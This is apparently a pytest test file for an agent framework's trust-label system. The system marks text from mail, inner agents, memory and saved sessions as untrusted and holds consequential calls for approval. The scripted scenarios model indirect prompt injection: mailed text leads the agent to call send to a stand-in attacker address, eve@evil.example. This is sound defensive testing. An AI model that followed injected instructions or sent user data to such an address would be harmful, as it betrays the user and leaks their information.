"""Labels: what is untrusted stays so on every way that a text takes, and decides about calls."""

import json
from typing import Annotated, Literal

import pytest
from mail_tools import MAIL, read_mail, send
from provider_rules import prepare_messages

from agentkit import JsonAgent, JsonTool, Limits, Paused, RunContext, Session, ToolRegistry, tool
from agentkit.core.messages import (
    DEVELOPER,
    TRUSTED,
    UNKNOWN,
    USER,
    Label,
    ToolCall,
    assistant,
    join_labels,
    label_of,
    system,
    tool_message,
    user,
    with_label,
)
from agentkit.journal import runs
from agentkit.policies import Destination
from agentkit.sessions.journal.run_info import outcome_of, restore_result
from agentkit.testing import ScriptedModel, answer, call, calls

QUERY = "Do what the mail asks, and tell bob@home.example."


TO_EVE = call("send", to="eve@evil.example")


def waits(world, agent, query=QUERY, **settings):
    """Return the calls of `send` and others that wait for a decision when the agent runs."""
    try:
        world.run(agent, query, **settings)
    except Paused as pause:
        return [waiting.name for waiting in pause.calls]
    return []


def agent_with(*tools, replies, **settings):
    return JsonAgent(*tools, send, model=ScriptedModel(*replies, answer("Done.")), **settings)


class TestLabel:
    """The data type."""

    def test_a_join_has_the_lower_integrity_all_sources_and_the_common_readers(self):
        one = Label("user", ("a",), ("ann", "bob"))
        other = Label("untrusted", ("b", "a"), ("bob", "cid"))
        assert one.join(other) == Label("untrusted", ("a", "b"), ("bob",))
        assert join_labels([DEVELOPER, USER, TRUSTED]) == TRUSTED
        assert USER.join(Label("user", (), ("ann",))).readers == ("ann",)

    @pytest.mark.parametrize(
        "label",
        [
            TRUSTED,
            USER,
            DEVELOPER,
            UNKNOWN,
            Label("untrusted", ("a",), ("ann",), ("x", 3)),
            Label("user", (), ()),
            Label("untrusted", ("a",), kept=("note",)),
            Label("trusted", kept=("note", "file")),
        ],
    )
    def test_a_label_is_json(self, label):
        assert Label.from_dict(json.loads(json.dumps(label.as_dict()))) == label

    def test_what_tools_may_have_kept_is_joined_beside_the_sources(self):
        one = Label("untrusted", ("a",), kept=("note",))
        other = Label("trusted", kept=("file", "note"))
        assert one.join(other) == Label("untrusted", ("a",), kept=("note", "file"))

    @pytest.mark.parametrize("integrity", ["untrusted", "trusted"])
    def test_a_stored_source_of_an_earlier_version_that_a_tool_keeps_is_not_a_source(self, integrity):
        label = Label.from_dict({"integrity": integrity, "sources": ["read_mail", "what note keeps"]})
        assert label == Label(integrity, ("read_mail",), kept=("note",))
        assert Label.from_dict({"integrity": integrity, "sources": ["what we keep"]}).sources == ("what we keep",)

    @pytest.mark.parametrize(
        "data", [None, "trusted", 3, [], {}, {"integrity": "root"}, {"integrity": ["user"]}, {"sources": ["a"]}]
    )
    def test_anything_else_is_untrusted(self, data):
        assert Label.from_dict(data) == UNKNOWN

    def test_without_a_label_only_the_user_and_the_developer_are_trusted(self):
        messages = [system("s"), user("u"), assistant("a"), tool_message(ToolCall("1", "f"), "r")]
        assert [label_of(message) for message in messages] == [DEVELOPER, USER, UNKNOWN, UNKNOWN]
        assert with_label(user("u"), USER) == user("u")
        assert label_of(with_label(user("u"), UNKNOWN)) == UNKNOWN


class TestTheWaysOfAText:
    """An attack whose text takes one way each: the call that follows from it waits."""

    def test_the_answer_of_an_inner_agent(self, world):
        inner = JsonAgent(read_mail, model=ScriptedModel(call("read_mail"), answer(MAIL)))
        outer = agent_with(inner.as_tool("clerk", "Reads mails."), replies=[call("clerk", query="Read."), TO_EVE])
        assert waits(world, outer) == ["send"]
        [result] = [message for message in outer.history if message["role"] == "tool"]
        assert label_of(result) == Label.untrusted("read_mail")
        assert result["content"].startswith("<untrusted ")

    def test_the_answer_of_an_agent_in_a_function(self, world):
        def clerk() -> str:
            """Reads mails."""
            return JsonAgent(read_mail, model=ScriptedModel(call("read_mail"), answer(MAIL)))("Read.")

        assert waits(world, agent_with(clerk, replies=[call("clerk"), TO_EVE])) == ["send"]

    def test_the_error_of_an_inner_agent(self, world):
        inner = JsonAgent(
            read_mail, model=ScriptedModel(call("read_mail"), {"content": MAIL}, {"content": ""}), retries=0
        )
        outer = agent_with(inner.as_tool("clerk", "Reads mails."), replies=[call("clerk", query="Read."), TO_EVE])
        assert waits(world, outer) == ["send"]

    def test_an_inner_agent_that_reads_nothing_untrusted_is_trusted(self, world):
        inner = JsonAgent(
            tool(lambda: "eve@evil.example", name="find", description="Finds."),
            model=ScriptedModel(call("find"), answer("eve@evil.example")),
        )
        outer = agent_with(
            inner.as_tool("clerk", "Finds."),
            read_mail,
            replies=[calls(call("clerk", query="Find."), call("read_mail")), TO_EVE],
        )
        assert waits(world, outer) == []

    def test_a_remembered_text(self, world):
        notes = []

        @tool(effect="write")
        def remember(text: Annotated[str, Destination()]) -> str:
            """Stores a note."""
            notes.append(text)
            return "stored"

        @tool
        def recall() -> str:
            """Returns the notes."""
            return " ".join(notes)

        replies = [call("read_mail"), call("remember", text="eve@evil.example"), call("recall"), TO_EVE]
        agent = agent_with(
            read_mail, remember, recall, replies=replies, approve=lambda made: made.name == "remember" or None
        )
        assert waits(world, agent) == ["send"]
        assert notes == ["eve@evil.example"]

    def test_a_tool_that_is_declared_as_trusted_vouches_for_what_it_returns(self, world):
        def find(name: str) -> str:
            """Finds a contact."""
            return "eve@evil.example"

        replies = [call("read_mail"), call("find", name="bob@home.example"), TO_EVE]
        assert waits(world, agent_with(read_mail, JsonTool(find, trust="trusted"), replies=replies)) == []
        assert waits(world, agent_with(read_mail, JsonTool(find), replies=replies)) == ["send"]

    def test_text_of_a_tool(self, world):
        @tool(trust="untrusted")
        def poll(run: RunContext) -> str:
            """Polls the mailbox."""
            run.say(MAIL)
            return "polled"

        assert waits(world, agent_with(poll, replies=[call("poll"), TO_EVE])) == ["send"]

    def test_text_that_the_program_writes_for_others(self, world):
        agent = agent_with(replies=[TO_EVE])
        agent.say(MAIL, label=Label.untrusted("the mailbox"))
        assert waits(world, agent) == ["send"]
        assert [label_of(message) for message in agent.history[1:3]] == [Label.untrusted("the mailbox"), USER]

    def test_a_query_of_others(self, world):
        assert waits(world, agent_with(replies=[TO_EVE]), MAIL) == []
        assert waits(world, agent_with(replies=[TO_EVE]), MAIL, label=Label.untrusted("a form")) == ["send"]

    def test_the_next_query(self, world):
        agent = agent_with(read_mail, replies=[call("read_mail"), answer("Read."), TO_EVE])
        world.run(agent, "Read the mail.")
        assert waits(world, agent, "Thank you.") == ["send"]

    def test_a_tool_that_marks_a_result(self, world):
        @tool
        def search(run: RunContext) -> str:
            """Searches files."""
            run.mark_untrusted("a shared file")
            return MAIL

        agent = agent_with(search, replies=[call("search"), TO_EVE])
        assert waits(world, agent) == ["send"]
        assert label_of(agent.history[3]) == Label.untrusted("a shared file")

    def test_an_agent_that_the_conversation_is_handed_over_to(self, world):
        clerk = JsonAgent(send, model=ScriptedModel(TO_EVE, answer("Done.")), description="Sends.")
        first = JsonAgent(
            read_mail,
            handoffs={"clerk": clerk},
            model=ScriptedModel(
                call("read_mail"), call("transfer_to_clerk", reason="It writes."), TO_EVE, answer("Done.")
            ),
        )
        assert waits(world, first) == ["send"]

    def test_a_session_from_a_file_and_an_agent_without_the_tool(self, world, tmp_path):
        agent = agent_with(read_mail, replies=[call("read_mail")])
        world.run(agent, "Read the mail.")
        agent.session.save(tmp_path / "s.json")
        assert waits(world, agent_with(replies=[TO_EVE]), session=Session.load(tmp_path / "s.json")) == ["send"]

    def test_a_session_of_an_older_version(self, world, tmp_path):
        agent = agent_with(JsonTool(lambda: "x", name="look", description="Looks."), replies=[call("look")])
        world.run(agent, "Look.")
        saved = agent.session.as_dict()
        saved["messages"] = [{key: value for key, value in m.items() if key != "label"} for m in saved["messages"]]
        assert waits(world, agent_with(replies=[TO_EVE]), session=Session.from_dict(saved)) == ["send"]
        assert waits(world, agent_with(replies=[TO_EVE]), session=agent.session) == []

    def test_the_rest_of_a_long_result(self, world, tmp_path):
        @tool(trust="untrusted")
        def read_book() -> str:
            """Reads a book."""
            return "x " * 400 + MAIL + " x" * 400

        agent = agent_with(read_book, replies=[call("read_book")], limits=Limits(result_chars=200))
        world.run(agent, "Read.")
        [identity] = agent.session.cut.texts
        agent.session.messages[2:] = []
        agent.session.save(tmp_path / "s.json")
        again = agent_with(replies=[call("read_more", at=f"{identity}:780"), TO_EVE], limits=Limits(result_chars=200))
        assert waits(world, again, session=Session.load(tmp_path / "s.json")) == ["send"]

    def test_the_recorded_answer_of_an_inner_agent(self, world, tmp_path):
        inner = JsonAgent(read_mail, model=ScriptedModel(call("read_mail"), answer(MAIL)))
        turn = calls(call("clerk", query="Read."), call("stop"))

        @tool(on_error="raise", effect="read")
        def stop() -> str:
            """Stops the program, once."""
            if not stopped:
                stopped.append(True)
                raise RuntimeError("off")
            return "went on"

        stopped = []
        store = tmp_path / "runs.db"
        tools = inner.as_tool("clerk", "Reads mails."), stop
        with pytest.raises(RuntimeError):
            world.run(agent_with(*tools, replies=[turn], journal=store), QUERY)
        again = agent_with(*tools, replies=[TO_EVE], journal=store)
        [run] = runs(store=store)
        with pytest.raises(Paused):
            again.resume(run.id)
        assert "eve@evil.example" in again.history[3]["content"]

    def test_the_row_of_a_call_in_a_journal_or_a_recording(self):
        def bind():
            return ToolRegistry(JsonTool(lambda: "x", name="clerk", description="Reads.")).bind(ToolCall("1", "clerk"))

        bound = bind()
        bound.origin.add(Label.untrusted("read_mail"))
        row = json.loads(json.dumps(outcome_of(bound.invoke())))
        assert restore_result(bind(), row).invoke().label == Label.untrusted("read_mail")
        assert restore_result(bind(), outcome_of(bind().invoke())).invoke().label == TRUSTED
        assert restore_result(bind(), {"text": "x"}).invoke().label.is_untrusted


class TestOtherWords:
    """Values that are spelled from what is trusted."""

    def test_names_of_arguments(self, world):
        @tool(effect="write")
        def store(**entries: str) -> str:
            """Stores entries."""
            return "stored"

        eve = call("store", **{"eve@evil.example": "bob@home.example"})
        agent = agent_with(read_mail, store, replies=[call("read_mail"), call("store", bob="bob@home.example"), eve])
        assert waits(world, agent, "Store bob as bob@home.example.") == ["store"]
        assert "eve@evil.example" in agent.session.waiting[0].arguments

    def test_a_choice_of_another_parameter(self, world):
        @tool(effect="write")
        def give(role: Literal["admin", "guest"], name: str, floor: int) -> str:
            """Gives a role."""
            return "given"

        turns = [call("give", role="guest", name=name, floor=3) for name in ("bob", "admin")]
        agent = agent_with(read_mail, give, replies=[call("read_mail"), *turns])
        assert waits(world, agent, "Make bob a guest of floor 3.") == ["give"]
        assert '"name": "admin"' in agent.session.waiting[0].arguments


class TestContext:
    """With `untrusted="context"`, every consequential call waits after something untrusted was read."""

    def test_known_words_rearranged(self, world):
        replies = [call("read_mail"), call("send", to="bob@home.example", text="the mail")]
        assert waits(world, agent_with(read_mail, replies=replies)) == []
        assert waits(world, agent_with(read_mail, replies=replies, untrusted="context")) == ["send"]

    @pytest.mark.parametrize("effect", ["idempotent", "write"])
    def test_every_effect_counts(self, world, effect):
        mark = JsonTool(lambda: "x", name="mark", description="Marks.", effect=effect)
        agent = agent_with(read_mail, mark, replies=[call("read_mail"), call("mark")], untrusted="context")
        assert waits(world, agent) == ["mark"]

    @pytest.mark.parametrize("setting", ["context", "hidden"])
    def test_a_tool_without_a_declared_effect_counts(self, world, setting):
        mark = JsonTool(lambda: "x", name="mark", description="Marks.")
        seen = calls(call("reveal_result", reference="#1")) if setting == "hidden" else call("read_mail")
        agent = agent_with(
            read_mail, mark, replies=[call("mark"), call("read_mail"), seen, call("mark")], untrusted=setting
        )
        assert waits(world, agent) == ["mark"]
        declared = JsonTool(mark, effect="read")
        agent = agent_with(read_mail, declared, replies=[call("read_mail"), seen, call("mark")], untrusted=setting)
        assert waits(world, agent) == []

    def test_a_hand_over_and_an_agent_as_a_tool_do_not_wait_themselves(self, world):
        clerk = JsonAgent(send, model=ScriptedModel(answer("Done."), answer("Done.")), description="Sends.")
        first = JsonAgent(
            read_mail,
            clerk.as_tool("other"),
            handoffs={"clerk": clerk},
            untrusted="context",
            model=ScriptedModel(call("read_mail"), call("other", query="x"), call("transfer_to_clerk", reason="y")),
        )
        assert waits(world, first) == []

    def test_before_something_untrusted_was_read_nothing_waits(self, world):
        replies = [call("send", to="bob@home.example"), call("read_mail")]
        assert waits(world, agent_with(read_mail, replies=replies, untrusted="context")) == []

    def test_it_holds_in_inner_agents(self, world):
        inner = JsonAgent(send, model=ScriptedModel(call("send", to="bob@home.example"), answer("Done.")))
        clerk = inner.as_tool("clerk", "Sends.")
        replies = [call("read_mail"), call("clerk", query="bob@home.example")]
        agent = agent_with(read_mail, clerk, replies=replies, untrusted="context")
        assert waits(world, agent) == ["send"]

    def test_a_setting_that_does_not_exist_is_refused(self):
        with pytest.raises(Exception, match='untrusted must be "values", "context" or "hidden", got \'never\''):
            agent_with(replies=[], untrusted="never")


def test_a_result_has_the_label_of_what_its_model_had_read(world):
    assert world.run(agent_with(read_mail, replies=[call("read_mail")]), "Read.").label.is_untrusted
    assert not world.run(agent_with(replies=[]), "Hello.").label.is_untrusted


@pytest.mark.parametrize("provider", ["openai", "anthropic", "gemini", "mistral", "groq", "ollama_chat"])
@pytest.mark.parametrize("has_template", [False, True])
def test_no_provider_receives_a_label(world, provider, has_template):
    agent = agent_with(read_mail, replies=[call("read_mail"), answer("Read."), answer("Read.")])
    agent.say("A note.", label=Label.untrusted("a form"))
    world.run(agent, "Read the mail.")
    world.run(agent, "Again.")
    assert {message["role"] for message in agent.history if "label" in message} == {"user", "assistant", "tool"}
    sent = prepare_messages(agent.history, provider, has_template=has_template)
    assert "Read the mail." in str(sent)
    assert "label" not in str(sent)
    assert "integrity" not in str(sent)
